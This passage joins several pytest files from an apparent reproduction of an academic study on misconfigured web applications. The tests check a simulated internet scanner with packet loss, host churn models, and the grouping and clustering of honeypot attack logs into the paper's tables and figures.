                InMemoryTransport(internet), syn_loss=0.3, seed=42
            )
            runs.append([transport.syn_probe(ip, 8192) for _ in range(50)])
        assert runs[0] == runs[1]

    def test_certificate_drop_raises_and_is_counted(self, world):
        from repro.util.errors import ConnectionTimeout

        internet, ip = world
        transport = FlakyTransport(
            InMemoryTransport(internet), request_loss=1.0
        )
        # A dropped TLS handshake is a timeout, not a silent "no
        # certificate": callers must be able to tell transient from absent.
        with pytest.raises(ConnectionTimeout):
            transport.fetch_certificate(ip, 8192)
        assert transport.dropped_requests == 1

    def test_stats_are_shared_with_the_inner_transport(self, world):
        """Regression: wrapping must not split the load counters."""
        internet, ip = world
        inner = InMemoryTransport(internet)
        transport = FlakyTransport(inner, syn_loss=1.0)
        assert transport.stats is inner.stats
        transport.syn_probe(ip, 8192)  # dropped, but load was placed
        transport.get(ip, 8192, "/")
        assert inner.stats.syn_probes == 1
        assert inner.stats.http_requests == 1

    def test_inherits_ethics_enforcement(self, world):
        from repro.net.http import HttpRequest
        from repro.net.transport import EthicsViolation

        internet, ip = world
        transport = FlakyTransport(InMemoryTransport(internet))
        with pytest.raises(EthicsViolation):
            transport.request(ip, 8192, Scheme.HTTP, HttpRequest.post("/ws"))


class TestPipelineUnderLoss:
    def test_pipeline_survives_heavy_loss(self, world):
        from repro.apps.catalog import scanned_ports
        from repro.core.pipeline import ScanPipeline

        internet, ip = world
        transport = FlakyTransport(
            InMemoryTransport(internet), syn_loss=0.5, request_loss=0.5, seed=1
        )
        pipeline = ScanPipeline(transport, scanned_ports(), fingerprint=False)
        # Must not raise, whatever gets through.
        pipeline.run([ip])

    def test_recall_degrades_monotonically_in_expectation(self):
        from repro.experiments.packet_loss import run_packet_loss_study
        from repro.net.population import PopulationModel, generate_internet

        internet, _geo, _census = generate_internet(
            PopulationModel(awe_rate=0.001, vuln_rate=0.05,
                            background_rate=1e-7, seed=3)
        )
        result = run_packet_loss_study(internet, loss_rates=(0.0, 0.1, 0.4))
        recalls = [point.recall for point in result.points]
        assert recalls[0] == 1.0
        assert recalls[0] > recalls[1] > recalls[2]
        assert result.table().render()


class TestFlakyFork:
    def test_fork_is_deterministic_per_shard_seed(self, world):
        internet, ip = world

        def outcomes(shard_seed):
            parent = FlakyTransport(
                InMemoryTransport(internet), syn_loss=0.4, seed=9
            )
            child = parent.fork(shard_seed)
            return [child.syn_probe(ip, 8192) for _ in range(60)]

        assert outcomes(2) == outcomes(2)
        assert outcomes(2) != outcomes(3)

    def test_fork_has_private_stats_and_counters(self, world):
        internet, ip = world
        parent = FlakyTransport(
            InMemoryTransport(internet), syn_loss=1.0, seed=9
        )
        child = parent.fork(1)
        child.syn_probe(ip, 8192)
        assert child.dropped_probes == 1
        assert parent.dropped_probes == 0
        assert parent.stats.syn_probes == 0
