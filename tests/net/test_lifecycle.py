"""Tests for the host churn model against the paper's RQ3 calibration."""

import random

from repro.net.lifecycle import APP_HAZARD, Fate, FateKind, LifecycleModel
from repro.util.clock import HOUR, WEEK


def _sample_fates(slug: str, version: str, n: int = 4000, seed: int = 3):
    model = LifecycleModel()
    rng = random.Random(seed)
    return model, [model.fate_for(rng, slug, version) for _ in range(n)]


class TestFate:
    def test_state_before_exit_is_vulnerable(self):
        fate = Fate(FateKind.OFFLINE, exit_time=10.0, update_time=None)
        assert fate.state_at(5.0) is FateKind.VULNERABLE
        assert fate.state_at(15.0) is FateKind.OFFLINE

    def test_survivor_never_exits(self):
        fate = Fate(FateKind.VULNERABLE, exit_time=None, update_time=None)
        assert fate.state_at(10 * WEEK) is FateKind.VULNERABLE


class TestCalibration:
    def test_over_half_survive_four_weeks(self):
        _model, fates = _sample_fates("docker", "20.10")
        survivors = sum(
            1 for f in fates if f.state_at(4 * WEEK) is FateKind.VULNERABLE
        )
        assert 0.45 < survivors / len(fates) < 0.70

    def test_roughly_ten_percent_gone_within_six_hours(self):
        # Aggregate over a default-insecure app, like most of the population.
        _model, fates = _sample_fates("hadoop", "3.2.1")
        early = sum(
            1 for f in fates if f.state_at(6 * HOUR) is not FateKind.VULNERABLE
        )
        assert 0.06 < early / len(fates) < 0.16

    def test_fixes_are_rare(self):
        _model, fates = _sample_fates("nomad", "1.0")
        fixed = sum(1 for f in fates if f.kind is FateKind.FIXED and
                    f.exit_time is not None and f.exit_time <= 4 * WEEK)
        assert fixed / len(fates) < 0.10

    def test_cms_fixes_are_front_loaded(self):
        _model, fates = _sample_fates("wordpress", "5.7")
        fix_times = [
            f.exit_time for f in fates
            if f.kind is FateKind.FIXED and f.exit_time is not None
        ]
        assert fix_times, "expected some CMS fixes"
        median = sorted(fix_times)[len(fix_times) // 2]
        assert median < 1 * WEEK  # installation completions cluster early

    def test_notebooks_outlive_ci(self):
        _model, nb = _sample_fates("jupyter-notebook", "4.2")
        _model, ci = _sample_fates("jenkins", "1.9", seed=3)
        nb_survive = sum(
            1 for f in nb if f.state_at(4 * WEEK) is FateKind.VULNERABLE
        ) / len(nb)
        ci_survive = sum(
            1 for f in ci if f.state_at(4 * WEEK) is FateKind.VULNERABLE
        ) / len(ci)
        assert nb_survive > ci_survive

    def test_joomla_and_drupal_linger_longest(self):
        assert APP_HAZARD["joomla"] < APP_HAZARD["jenkins"]
        assert APP_HAZARD["drupal"] < APP_HAZARD["wordpress"]

    def test_insecure_default_exits_faster_early(self):
        model = LifecycleModel()
        rng_a, rng_b = random.Random(1), random.Random(1)
        # hadoop (insecure default) vs kubernetes (explicit misconfig)
        hadoop = [model.fate_for(rng_a, "hadoop", "3.2.1") for _ in range(4000)]
        k8s = [model.fate_for(rng_b, "kubernetes", "1.20") for _ in range(4000)]
        early_hadoop = sum(
            1 for f in hadoop if f.exit_time is not None and f.exit_time <= 6 * HOUR
        )
        early_k8s = sum(
            1 for f in k8s if f.exit_time is not None and f.exit_time <= 6 * HOUR
        )
        assert early_hadoop > early_k8s

    def test_update_probability(self):
        _model, fates = _sample_fates("consul", "1.9")
        updates = sum(1 for f in fates if f.update_time is not None)
        # Paper: 2.4% updated during the four weeks.
        assert 0.01 < updates / len(fates) < 0.05

    def test_plan_keys_by_ip(self):
        from repro.net.host import Host
        from repro.net.ipv4 import IPv4Address

        model = LifecycleModel()
        hosts = [
            (Host(IPv4Address(100 + i)), "docker", "20.10") for i in range(5)
        ]
        fates = model.plan(random.Random(0), hosts)
        assert set(fates) == {100 + i for i in range(5)}
