"""Tests for simulated hosts and the sparse Internet."""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.net.host import Host, HostKind, Service
from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet, allocate_addresses
from repro.util.errors import ConnectionRefused, ConnectionTimeout, TlsError


def _host(ip="203.0.113.5", kind=HostKind.BACKGROUND):
    return Host(IPv4Address.parse(ip), kind)


class TestService:
    def test_http_service_answers(self):
        service = Service(80, responder=lambda r: HttpResponse.ok("hi"))
        assert service.handle(Scheme.HTTP, HttpRequest.get("/")).body == "hi"

    def test_https_only_redirects_http(self):
        service = Service(8443, frozenset({Scheme.HTTPS}),
                          responder=lambda r: HttpResponse.ok("tls"))
        response = service.handle(Scheme.HTTP, HttpRequest.get("/"))
        assert response.is_redirect

    def test_http_only_rejects_https(self):
        service = Service(80, responder=lambda r: HttpResponse.ok("x"))
        with pytest.raises(TlsError):
            service.handle(Scheme.HTTPS, HttpRequest.get("/"))

    def test_non_http_port_times_out(self):
        service = Service(22, non_http=True)
        with pytest.raises(ConnectionTimeout):
            service.handle(Scheme.HTTP, HttpRequest.get("/"))

    def test_app_service_dispatches_to_emulator(self):
        app = create_instance("polynote")
        service = Service(8192, app=AppInstance(app, 8192))
        response = service.handle(Scheme.HTTP, HttpRequest.get("/"))
        assert "Polynote" in response.body


class TestHost:
    def test_open_ports(self):
        host = _host()
        host.add_service(Service(80, responder=lambda r: HttpResponse.ok("x")))
        assert host.is_port_open(80)
        assert not host.is_port_open(8080)

    def test_duplicate_port_rejected(self):
        host = _host()
        host.add_service(Service(80))
        with pytest.raises(ValueError):
            host.add_service(Service(80))

    def test_offline_host_closed_everywhere(self):
        host = _host()
        host.add_service(Service(80))
        host.take_offline()
        assert not host.is_port_open(80)
        with pytest.raises(ConnectionTimeout):
            host.exchange(80, Scheme.HTTP, HttpRequest.get("/"))

    def test_closed_port_refuses(self):
        host = _host()
        with pytest.raises(ConnectionRefused):
            host.exchange(80, Scheme.HTTP, HttpRequest.get("/"))

    def test_middlebox_opens_everything_but_answers_nothing(self):
        host = _host(kind=HostKind.MIDDLEBOX)
        assert host.is_port_open(80)
        assert host.is_port_open(31337)
        with pytest.raises(ConnectionTimeout):
            host.exchange(80, Scheme.HTTP, HttpRequest.get("/"))

    def test_apps_deduplicates_multi_port_instances(self):
        host = _host()
        app = create_instance("wordpress")
        host.add_service(Service(80, app=AppInstance(app, 80)))
        host.add_service(
            Service(443, frozenset({Scheme.HTTPS}), app=AppInstance(app, 443))
        )
        assert len(host.apps()) == 1  # paper counts one app per host

    def test_has_vulnerable_app(self):
        host = _host()
        host.add_service(
            Service(8888, app=AppInstance(
                create_instance("jupyter-notebook", vulnerable=True), 8888))
        )
        assert host.has_vulnerable_app()

    def test_app_instance_lookup(self):
        host = _host()
        host.add_service(
            Service(8192, app=AppInstance(create_instance("polynote"), 8192))
        )
        assert host.app_instance("polynote") is not None
        assert host.app_instance("wordpress") is None


class TestSimulatedInternet:
    def test_add_and_lookup(self):
        internet = SimulatedInternet()
        host = _host()
        internet.add_host(host)
        assert internet.host_at(host.ip) is host
        assert len(internet) == 1

    def test_duplicate_ip_rejected(self):
        internet = SimulatedInternet()
        internet.add_host(_host())
        with pytest.raises(ValueError):
            internet.add_host(_host())

    def test_unpopulated_address_is_dark(self):
        internet = SimulatedInternet()
        ip = IPv4Address.parse("8.8.8.8")
        assert not internet.is_port_open(ip, 80)
        with pytest.raises(ConnectionTimeout):
            internet.exchange(ip, 80, Scheme.HTTP, HttpRequest.get("/"))

    def test_true_vulnerable_hosts_ground_truth(self):
        internet = SimulatedInternet()
        safe = _host("203.0.113.1")
        safe.add_service(
            Service(8888, app=AppInstance(create_instance("jupyterlab"), 8888))
        )
        vuln = _host("203.0.113.2")
        vuln.kind = HostKind.AWE
        vuln.add_service(
            Service(8888, app=AppInstance(
                create_instance("jupyterlab", vulnerable=True), 8888))
        )
        internet.add_host(safe)
        internet.add_host(vuln)
        assert [h.ip for h in internet.true_vulnerable_hosts()] == [vuln.ip]

    def test_hosts_running(self):
        internet = SimulatedInternet()
        host = _host()
        host.add_service(
            Service(8192, app=AppInstance(create_instance("polynote"), 8192))
        )
        internet.add_host(host)
        assert len(internet.hosts_running("polynote")) == 1
        assert internet.hosts_running("docker") == []


class TestAllocateAddresses:
    def test_distinct_and_unreserved(self):
        import random

        from repro.net.ipv4 import is_reserved

        taken: set[int] = set()
        addresses = allocate_addresses(random.Random(0), 500, taken)
        assert len({a.value for a in addresses}) == 500
        assert len(taken) == 500
        assert not any(is_reserved(a) for a in addresses)

    def test_respects_existing_taken(self):
        import random

        rng = random.Random(1)
        taken: set[int] = set()
        first = allocate_addresses(rng, 100, taken)
        second = allocate_addresses(rng, 100, taken)
        assert not ({a.value for a in first} & {a.value for a in second})
