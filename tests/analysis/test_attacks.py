"""Tests for attack grouping, uniqueness, and attacker clustering."""

from repro.analysis.attacks import (
    Attack,
    attacks_per_app,
    cluster_attackers,
    gap_statistics,
    group_attacks,
    top_attacker_share,
    unique_attacks,
    unique_ips_per_app,
)
from repro.honeypot.monitor import AuditEvent
from repro.net.ipv4 import IPv4Address
from repro.util.clock import HOUR, MINUTE

IP_A = IPv4Address.parse("93.184.216.1")
IP_B = IPv4Address.parse("93.184.216.2")
IP_C = IPv4Address.parse("93.184.216.3")


def audit(honeypot, timestamp, ip, fingerprint, command="cmd"):
    return AuditEvent(honeypot, timestamp, ip, command, "/x", "terminal", fingerprint)


class TestGroupAttacks:
    def test_commands_within_window_merge(self):
        events = [
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 5 * MINUTE, IP_A, 1),
            audit("hadoop", 14 * MINUTE, IP_A, 1),
        ]
        attacks = group_attacks(events)
        assert len(attacks) == 1
        assert len(attacks[0].commands) == 3

    def test_gap_over_window_splits(self):
        events = [
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 20 * MINUTE, IP_A, 1),
        ]
        assert len(group_attacks(events)) == 2

    def test_window_is_rolling(self):
        """Each command extends the window from the *last* command."""
        events = [
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 10 * MINUTE, IP_A, 1),
            audit("hadoop", 20 * MINUTE, IP_A, 1),  # 10 min after previous
        ]
        assert len(group_attacks(events)) == 1

    def test_different_ips_never_merge(self):
        events = [
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 1 * MINUTE, IP_B, 1),
        ]
        assert len(group_attacks(events)) == 2

    def test_different_honeypots_never_merge(self):
        events = [
            audit("hadoop", 0.0, IP_A, 1),
            audit("docker", 1 * MINUTE, IP_A, 1),
        ]
        assert len(group_attacks(events)) == 2

    def test_sorted_by_start(self):
        events = [
            audit("a", 50.0, IP_A, 1),
            audit("b", 10.0, IP_B, 2),
        ]
        attacks = group_attacks(events)
        assert attacks[0].honeypot == "b"


class TestUniqueAttacks:
    def test_repeated_payload_not_unique(self):
        attacks = group_attacks([
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 1 * HOUR, IP_B, 1),  # same payload, new IP
        ])
        assert len(unique_attacks(attacks)) == 1

    def test_new_payload_is_unique(self):
        attacks = group_attacks([
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 1 * HOUR, IP_A, 2),
        ])
        assert len(unique_attacks(attacks)) == 2

    def test_same_payload_other_honeypot_counts_again(self):
        attacks = group_attacks([
            audit("hadoop", 0.0, IP_A, 1),
            audit("docker", 1 * HOUR, IP_A, 1),
        ])
        assert len(unique_attacks(attacks)) == 2

    def test_counters(self):
        attacks = group_attacks([
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 1 * HOUR, IP_B, 1),
            audit("docker", 2 * HOUR, IP_B, 2),
        ])
        assert attacks_per_app(attacks) == {"hadoop": 2, "docker": 1}
        assert unique_ips_per_app(attacks) == {"hadoop": 2, "docker": 1}


class TestClustering:
    def test_shared_payload_links_ips(self):
        attacks = group_attacks([
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 1 * HOUR, IP_B, 1),
        ])
        clusters = cluster_attackers(attacks)
        assert len(clusters) == 1
        assert clusters[0].ips == {IP_A.value, IP_B.value}

    def test_shared_ip_links_payloads(self):
        attacks = group_attacks([
            audit("hadoop", 0.0, IP_A, 1),
            audit("docker", 1 * HOUR, IP_A, 2),
        ])
        clusters = cluster_attackers(attacks)
        assert len(clusters) == 1
        assert clusters[0].is_multi_app

    def test_unrelated_attacks_stay_separate(self):
        attacks = group_attacks([
            audit("hadoop", 0.0, IP_A, 1),
            audit("hadoop", 1 * HOUR, IP_B, 2),
        ])
        assert len(cluster_attackers(attacks)) == 2

    def test_clusters_ranked_by_volume(self):
        events = [audit("hadoop", i * HOUR, IP_A, 1) for i in range(5)]
        events += [audit("docker", i * HOUR, IP_B, 2) for i in range(2)]
        clusters = cluster_attackers(group_attacks(events))
        assert clusters[0].attack_count == 5
        assert clusters[0].label == "attacker-01"

    def test_top_share(self):
        events = [audit("hadoop", i * HOUR, IP_A, 1) for i in range(8)]
        events += [audit("hadoop", i * HOUR, IP_B, 2) for i in range(2)]
        clusters = cluster_attackers(group_attacks(events))
        assert top_attacker_share(clusters, 1) == 0.8

    def test_top_share_empty(self):
        assert top_attacker_share([], 5) == 0.0


class TestGapStatistics:
    def test_basic_stats(self):
        attacks = group_attacks([
            audit("hadoop", 1 * HOUR, IP_A, 1),
            audit("hadoop", 2 * HOUR, IP_B, 2),
            audit("hadoop", 4 * HOUR, IP_C, 2),
        ])
        stats = gap_statistics(attacks, "hadoop")
        assert stats.first == 1 * HOUR
        assert stats.average_gap == 1.5 * HOUR
        # Unique attacks: fp1 at 1h, fp2 first seen at 2h.
        assert stats.unique_shortest == 1 * HOUR

    def test_single_attack(self):
        attacks = group_attacks([audit("grav", 355 * HOUR, IP_A, 9)])
        stats = gap_statistics(attacks, "grav")
        assert stats.first == 355 * HOUR
        assert stats.unique_average == 355 * HOUR

    def test_no_attacks(self):
        assert gap_statistics([], "gocd") is None


class TestAttackValueType:
    def test_primary_fingerprint_and_duration(self):
        attack = Attack("h", 1, 0.0, 60.0, ["a", "b"], {9, 4})
        assert attack.primary_fingerprint == 4
        assert attack.duration == 60.0
