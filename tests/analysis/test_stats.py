"""Tests for the statistical validation helpers."""

import pytest

from repro.analysis.stats import (
    attacker_concentration,
    gini_coefficient,
    interarrival_fit,
    survival_halflife,
    top_k_share,
)


class TestGini:
    def test_perfect_equality(self):
        assert gini_coefficient([5.0] * 10) == pytest.approx(0.0, abs=1e-9)

    def test_total_concentration(self):
        values = [0.0] * 99 + [100.0]
        assert gini_coefficient(values) > 0.95

    def test_monotone_in_inequality(self):
        flat = gini_coefficient([10, 10, 10, 10])
        skewed = gini_coefficient([1, 2, 3, 34])
        assert skewed > flat

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            gini_coefficient([])

    def test_all_zero_is_zero(self):
        assert gini_coefficient([0.0, 0.0]) == 0.0


class TestTopKShare:
    def test_basic(self):
        assert top_k_share([8, 1, 1], 1) == 0.8

    def test_k_exceeds_length(self):
        assert top_k_share([3, 2], 10) == 1.0

    def test_empty(self):
        assert top_k_share([], 3) == 0.0


class TestSurvivalHalflife:
    def test_finds_crossing(self):
        points = [(0.0, 1.0), (10.0, 0.7), (20.0, 0.4)]
        assert survival_halflife(points) == 20.0

    def test_never_crosses(self):
        assert survival_halflife([(0.0, 1.0), (10.0, 0.8)]) is None


class TestAgainstHoneypotStudy:
    def test_attacker_volumes_heavily_concentrated(self, honeypot_study):
        """The paper's 'small group performs most attacks', as a Gini."""
        gini = attacker_concentration(honeypot_study.clusters)
        assert gini > 0.6

    def test_top_shares_match_table(self, honeypot_study):
        volumes = [float(c.attack_count) for c in honeypot_study.clusters]
        assert 0.60 < top_k_share(volumes, 5) < 0.75
        assert 0.78 < top_k_share(volumes, 10) < 0.90

    def test_hadoop_arrivals_near_poisson(self, honeypot_study):
        """Continuous Internet-wide scanning predicts ~Poisson arrivals."""
        fit = interarrival_fit(honeypot_study.attacks, "hadoop")
        # ~20-minute mean gap (Table 6) ...
        assert 15 * 60 < fit.mean_gap < 45 * 60
        # ... and an exponential gap distribution is at least roughly
        # plausible (the schedule adds spacing floors, so do not demand a
        # perfect fit — only that the statistic is small).
        assert fit.ks_statistic < 0.25

    def test_sparse_honeypot_rejected(self, honeypot_study):
        with pytest.raises(ValueError):
            interarrival_fit(honeypot_study.attacks, "grav")
