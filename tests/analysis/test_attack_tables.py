"""Unit tests for the attack-table builders on hand-built inputs.

The integration tests exercise Tables 5-8 against the full honeypot
study; these verify the builders' arithmetic on tiny, fully-known
inputs.
"""

import pytest

from repro.analysis.attacks import Attack
from repro.analysis.tables import table5, table6, table7, table8
from repro.net.geo import GeoDatabase, IpMetadata
from repro.net.ipv4 import IPv4Address
from repro.util.clock import HOUR

IP_A = IPv4Address.parse("93.184.216.40")
IP_B = IPv4Address.parse("93.184.216.41")


def attack(honeypot, ip, start, fingerprints):
    return Attack(honeypot, ip.value, start, start, ["cmd"], set(fingerprints))


@pytest.fixture()
def attacks():
    return [
        attack("hadoop", IP_A, 1 * HOUR, {1}),
        attack("hadoop", IP_B, 2 * HOUR, {1}),   # repeat payload, new IP
        attack("hadoop", IP_A, 5 * HOUR, {2}),   # new payload
        attack("docker", IP_B, 7 * HOUR, {3}),
    ]


@pytest.fixture()
def geo():
    geo = GeoDatabase()
    geo.assign_fixed(IP_A, IpMetadata("Netherlands", "AS211252", "Serverion BV", True))
    geo.assign_fixed(IP_B, IpMetadata("Brazil", "AS268624", "Gamers Club", True))
    return geo


class TestTable5Unit:
    def test_rows(self, attacks):
        rows = {r["App"]: r for r in table5(attacks).as_dicts()}
        assert rows["Hadoop"]["# Attacks"] == 3
        assert rows["Hadoop"]["# Uniq. Attacks"] == 2
        assert rows["Hadoop"]["# Uniq. IPs"] == 2
        assert rows["Docker"]["# Attacks"] == 1

    def test_total_deduplicates_ips(self, attacks):
        total = table5(attacks).as_dicts()[-1]
        assert total["# Attacks"] == 4
        assert total["# Uniq. IPs"] == 2  # IP_B hit two apps

    def test_unattacked_apps_absent(self, attacks):
        names = {r["App"] for r in table5(attacks).as_dicts()}
        assert "Nomad" not in names


class TestTable6Unit:
    def test_first_and_average(self, attacks):
        rows = {r["Application"]: r for r in table6(attacks).as_dicts()}
        assert rows["Hadoop"]["First"] == 1.0
        # Gaps: 1h and 3h -> average 2h.
        assert rows["Hadoop"]["Average"] == 2.0

    def test_unique_gap_columns(self, attacks):
        rows = {r["Application"]: r for r in table6(attacks).as_dicts()}
        # Unique attacks at 1h (fp1) and 5h (fp2): one 4h gap.
        assert rows["Hadoop"]["Uniq shortest"] == 4.0
        assert rows["Hadoop"]["Uniq longest"] == 4.0


class TestTable7And8Unit:
    def test_country_counts(self, attacks, geo):
        rows = {r["Country"]: r for r in table7(attacks, geo).as_dicts()}
        assert rows["Netherlands"]["# Attacks"] == 2
        assert rows["Brazil"]["# Attacks"] == 2
        assert rows["Netherlands"]["# AS"] == 1

    def test_as_counts(self, attacks, geo):
        rows = {r["Provider"]: r for r in table8(attacks, geo).as_dicts()}
        assert rows["Serverion BV"]["# Attacks"] == 2
        assert rows["Serverion BV"]["# Countries"] == 1
        assert rows["Gamers Club"]["# Attacks"] == 2

    def test_unknown_ips_fall_back(self, attacks):
        """Unregistered source IPs still resolve (like a real metadata
        service) instead of crashing the analysis."""
        empty_geo = GeoDatabase()
        table = table7(attacks, empty_geo)
        assert sum(r["# Attacks"] for r in table.as_dicts()) == 4
