"""Tests for the figure data builders."""

from repro.analysis.attacks import cluster_attackers, group_attacks
from repro.analysis.figures import Figure1, Figure3, Figure4
from repro.analysis.versions import VersionedObservation
from repro.honeypot.monitor import AuditEvent
from repro.net.ipv4 import IPv4Address
from repro.util.clock import DAY, HOUR

IP_A = IPv4Address.parse("93.184.216.10")
IP_B = IPv4Address.parse("93.184.216.11")


def audit(honeypot, timestamp, ip, fingerprint):
    return AuditEvent(honeypot, timestamp, ip, "cmd", "/x", "m", fingerprint)


class TestFigure1:
    def test_build_and_render(self):
        observations = [
            VersionedObservation("jupyter-notebook", "4.2", True),
            VersionedObservation("jupyter-notebook", "6.2", False),
            VersionedObservation("hadoop", "2.5", True),
        ]
        figure = Figure1.build(observations)
        assert figure.overall_vulnerable["2016"] == 1
        assert figure.overall_secure["2021"] == 1
        assert "jupyter-notebook" in figure.detail
        text = figure.render()
        assert "Figure 1" in text
        assert "<2016" in text


class TestFigure3:
    def test_timeline_flags_new_payloads(self):
        attacks = group_attacks([
            audit("hadoop", 1 * HOUR, IP_A, 1),
            audit("hadoop", 5 * HOUR, IP_B, 1),   # repeat payload
            audit("hadoop", 9 * HOUR, IP_B, 2),   # new payload
        ])
        figure = Figure3.build(attacks)
        flags = [is_new for _t, is_new in figure.timeline["hadoop"]]
        assert flags == [True, False, True]

    def test_daily_histogram(self):
        attacks = group_attacks([
            audit("docker", 0.5 * DAY, IP_A, 1),
            audit("docker", 0.6 * DAY, IP_B, 1),
            audit("docker", 3.5 * DAY, IP_A, 2),
        ])
        figure = Figure3.build(attacks)
        histogram = figure.daily_histogram("docker", days=7)
        assert histogram[0] == 2
        assert histogram[3] == 1
        assert sum(histogram) == 3

    def test_render(self):
        attacks = group_attacks([audit("grav", 2 * DAY, IP_A, 7)])
        assert "grav" in Figure3.build(attacks).render()


class TestFigure4:
    def test_multi_app_clusters_only(self):
        attacks = group_attacks([
            audit("hadoop", 1 * HOUR, IP_A, 1),
            audit("docker", 3 * HOUR, IP_A, 1),   # same actor, second app
            audit("grav", 5 * HOUR, IP_B, 2),     # single-app actor
        ])
        figure = Figure4.build(cluster_attackers(attacks))
        assert len(figure.multi_app_clusters) == 1
        assert figure.total_multi_app_attacks == 2

    def test_graph_structure(self):
        attacks = group_attacks([
            audit("hadoop", 1 * HOUR, IP_A, 1),
            audit("docker", 3 * HOUR, IP_A, 1),
        ])
        figure = Figure4.build(cluster_attackers(attacks))
        kinds = {data["kind"] for _n, data in figure.graph.nodes(data=True)}
        assert kinds == {"attacker", "application", "ip"}
        # attacker node connects to both app nodes
        attacker = next(
            n for n, d in figure.graph.nodes(data=True) if d["kind"] == "attacker"
        )
        neighbours = set(figure.graph.neighbors(attacker))
        assert "app:hadoop" in neighbours and "app:docker" in neighbours

    def test_render(self):
        attacks = group_attacks([
            audit("hadoop", 1 * HOUR, IP_A, 1),
            audit("docker", 3 * HOUR, IP_A, 1),
        ])
        text = Figure4.build(cluster_attackers(attacks)).render()
        assert "docker" in text and "hadoop" in text
