"""Tests for release-date statistics (RQ2 / Figure 1 inputs)."""

import pytest

from repro.analysis.versions import (
    BIN_LABELS,
    VersionedObservation,
    bin_label,
    binned_counts,
    fraction_within_months,
    median_release_date_by_category,
    old_version_mav_share,
)
from repro.util.errors import ConfigError


def obs(slug, version, vulnerable=False):
    return VersionedObservation(slug, version, vulnerable)


class TestBinning:
    def test_seven_bins(self):
        assert len(BIN_LABELS) == 7

    @pytest.mark.parametrize(
        "date,label",
        [(2014.5, "<2016"), (2015.99, "<2016"), (2016.0, "2016"),
         (2019.5, "2019"), (2021.4, "2021"), (2022.5, "2021")],
    )
    def test_bin_label(self, date, label):
        assert bin_label(date) == label

    def test_binned_counts_filters(self):
        observations = [
            obs("jupyter-notebook", "4.2", vulnerable=True),   # 2016
            obs("jupyter-notebook", "6.2", vulnerable=False),  # 2021
            obs("hadoop", "2.5", vulnerable=True),             # 2014
        ]
        vulnerable_notebooks = binned_counts(
            observations, slug="jupyter-notebook", vulnerable=True
        )
        assert vulnerable_notebooks["2016"] == 1
        assert sum(vulnerable_notebooks.values()) == 1

    def test_release_date_resolution(self):
        assert obs("jenkins", "2.0").release_date == pytest.approx(2016.3)


class TestStatistics:
    def test_fraction_within_months(self):
        observations = [
            obs("wordpress", "5.7.2"),  # 2021.4 = scan month
            obs("wordpress", "4.0"),    # 2014
        ]
        assert fraction_within_months(observations, 6) == 0.5

    def test_fraction_empty(self):
        assert fraction_within_months([], 6) == 0.0

    def test_category_medians(self):
        observations = [
            obs("wordpress", "5.7.2"),         # CMS, 2021.4
            obs("jupyter-notebook", "4.2"),    # NB, 2016.5
            obs("jupyter-notebook", "5.0"),    # NB, 2017.3
            obs("jupyter-notebook", "6.2"),    # NB, 2021.0
        ]
        medians = median_release_date_by_category(observations)
        assert medians["CMS"] > medians["NB"]

    def test_old_version_mav_share(self):
        observations = [
            obs("jupyter-notebook", "4.0", vulnerable=True),
            obs("jupyter-notebook", "4.2", vulnerable=True),
            obs("jupyter-notebook", "4.1", vulnerable=True),
            obs("jupyter-notebook", "5.4", vulnerable=True),
            obs("jupyter-notebook", "6.2", vulnerable=False),
        ]
        share = old_version_mav_share(observations, "jupyter-notebook", "4.3")
        assert share == 0.75

    def test_old_version_share_requires_data(self):
        with pytest.raises(ConfigError):
            old_version_mav_share([], "jupyter-notebook", "4.3")


class TestPipelineIntegration:
    def test_to_versioned_from_scan(self, tiny_scan_study):
        from repro.analysis.versions import to_versioned

        observations = to_versioned(tiny_scan_study.report.observations())
        assert observations
        # Every converted observation resolves to a real release date.
        for observation in observations[:200]:
            assert 2013 < observation.release_date < 2022

    def test_scan_reproduces_rq2_freshness(self, calibrated_scan_study):
        """~65% of deployments updated within the last 6 months — our
        population reproduces the shape (dominated by WordPress)."""
        from repro.analysis.versions import to_versioned

        observations = to_versioned(calibrated_scan_study.report.observations())
        secure_only = [o for o in observations if not o.vulnerable]
        fraction = fraction_within_months(secure_only, 6)
        assert 0.5 < fraction < 0.8

    def test_vulnerable_skew_old(self, calibrated_scan_study):
        from repro.analysis.versions import to_versioned

        observations = to_versioned(calibrated_scan_study.report.observations())
        vulnerable = [o.release_date for o in observations if o.vulnerable]
        secure = [o.release_date for o in observations if not o.vulnerable]
        assert sum(vulnerable) / len(vulnerable) < sum(secure) / len(secure)

    def test_jupyter_notebook_80_percent_old(self, calibrated_scan_study):
        from repro.analysis.versions import to_versioned

        observations = to_versioned(calibrated_scan_study.report.observations())
        share = old_version_mav_share(observations, "jupyter-notebook", "4.3")
        assert 0.7 < share < 0.9
