"""Tests for the table builders against calibrated studies."""


from repro.analysis.tables import table1
from repro.apps.catalog import scanned_ports
from repro.net.population import PAPER_PREVALENCE


class TestTable1:
    def test_25_rows(self):
        assert len(table1().rows) == 25

    def test_known_rows(self):
        rows = {row["App"]: row for row in table1().as_dicts()}
        assert rows["GoCD"]["Default MAV"] == "yes"
        assert rows["GoCD"]["Warn"] == "yes"
        assert rows["Jenkins"]["Default MAV"] == "< 2.0 (2016)"
        assert rows["Kubernetes"]["Vuln"] == "API"
        assert rows["Gitlab"]["Vuln"] == "-"
        assert rows["phpMyAdmin"]["Vuln"] == "SQL"

    def test_star_ordering_within_category(self):
        """Table 1 lists the five most-starred per category, descending."""
        dicts = table1().as_dicts()
        by_type: dict[str, list[int]] = {}
        for row in dicts:
            by_type.setdefault(str(row["Type"]), []).append(
                int(str(row["Stars"]).rstrip("k"))
            )
        for category, stars in by_type.items():
            assert stars == sorted(stars, reverse=True), category


class TestTable2:
    def test_estimates_against_paper(self, calibrated_scan_study):
        table = calibrated_scan_study.table2()
        rows = {row["Port"]: row for row in table.as_dicts()}
        # 80 and 443 dominate the open-port estimates (the background
